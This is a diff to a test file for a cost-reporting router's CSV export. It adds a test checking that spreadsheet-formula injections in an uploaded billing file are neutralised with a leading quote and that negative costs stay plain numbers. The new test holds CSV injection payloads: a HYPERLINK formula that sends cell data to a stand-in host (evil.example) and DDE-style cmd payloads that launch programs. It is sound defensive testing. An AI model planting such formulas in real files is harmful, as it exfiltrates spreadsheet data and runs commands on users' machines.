@@ -9,7 +9,10 @@ import { addDays } from '@internal/plugin-cost-insights-common';
 import express from 'express';
 import fs from 'node:fs';
 import path from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import request from 'supertest';
+import { Readable } from 'node:stream';
+import { focusCsv, focusRow } from '../__testUtils__/focusCsv';
 import { demoFocusCsv } from '../demo/generateDemoFocusRows';
 import { createTestServices } from '../__testUtils__/testServices';
 import { CostRouteGuard } from './CostRouteGuard';
@@ -177,14 +180,17 @@ describe.each(databases.eachSupportedId())('cost router (%s)', databaseId => {
       .set('Authorization', as(MEMBER))
       .expect(200);
     expect(res.headers['content-type']).toContain('text/csv');
-    const lines = res.text.trim().split('\n');
-    expect(lines[0]).toBe(
+    const [header, ...lines]: string[][] = parseCsv(res.text);
+    expect(header.join(',')).toBe(
       'day,entityRef,provider,serviceCategory,serviceName,region,subAccountId,chargeCategory,billedCost,effectiveCost,listCost,consumedQuantity,consumedUnit,currency',
     );
+    expect(lines.length).toBeGreaterThan(0);
     expect(
-      lines
-        .slice(1)
-        .every(l => /^2026-11-0[12],component:default\/churn-model,/.test(l)),
+      lines.every(
+        l =>
+          /^2026-11-0[12]$/.test(l[0]) &&
+          l[1] === 'component:default/churn-model',
+      ),
     ).toBe(true);
   });
 
@@ -287,5 +293,54 @@ describe.each(databases.eachSupportedId())('cost router (%s)', databaseId => {
     const res = await request(app).get('/openapi.json').expect(200);
     expect(res.body.openapi).toBe('3.0.3');
     expect(Object.keys(res.body.paths)).toContain('/groups/{group}/daily-cost');
+  });
+
+  it('neutralises spreadsheet formulas a billing file plants in the export, and keeps negative costs numbers', async () => {
+    const planted = {
+      ServiceName: '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+      RegionId: '@SUM(1+1)*cmd|" /C calc"!A0',
+      SubAccountId: '+cmd|" /C notepad"!A0',
+      ConsumedUnit: "-2+3+cmd|' /C calc'!A0",
+      Tags: '{"forge-entity": "churn-model"}',
+      BillingAccountId: 'acct-planted',
+    };
+    const record = await services.ingester.ingest({
+      source: 'upload',
+      location: 'upload:planted.csv',
+      content: Readable.from([
+        Buffer.from(
+          focusCsv([
+            focusRow('2026-11-02', {
+              ...planted,
+              BilledCost: '-5.5',
+              EffectiveCost: '-5.5',
+              ListCost: '0',
+            }),
+          ]),
+        ),
+      ]),
+    });
+    expect(record.status).toBe('succeeded');
+    const res = await request(app)
+      .get('/entities/churn-model/export.csv?start=2026-11-02&end=2026-11-03')
+      .set('Authorization', as(MEMBER))
+      .expect(200);
+    // As a spreadsheet reads the file: every cell of the planted line is text that starts with a quote...
+    const [header, ...lines]: string[][] = parseCsv(res.text);
+    const line = lines.find(l =>
+      l[header.indexOf('serviceName')].includes('HYPERLINK'),
+    );
+    expect(line).toBeDefined();
+    const cell = (name: string) => line![header.indexOf(name)];
+    expect(cell('serviceName')).toBe(`'${planted.ServiceName}`);
+    expect(cell('region')).toBe(`'${planted.RegionId}`);
+    expect(cell('subAccountId')).toBe(`'${planted.SubAccountId}`);
+    expect(cell('consumedUnit')).toBe(`'${planted.ConsumedUnit}`);
+    // ...and the costs are plain numbers, the negative one included, unquoted in the file.
+    expect(cell('billedCost')).toBe('-5.5');
+    expect(res.text).toMatch(/,-5\.5,-5\.5,0,/);
+    for (const l of lines)
+      for (const c of l)
+        expect(/^[=+@]/.test(c) || /^-[^\d.]/.test(c)).toBe(false);
   });
 });
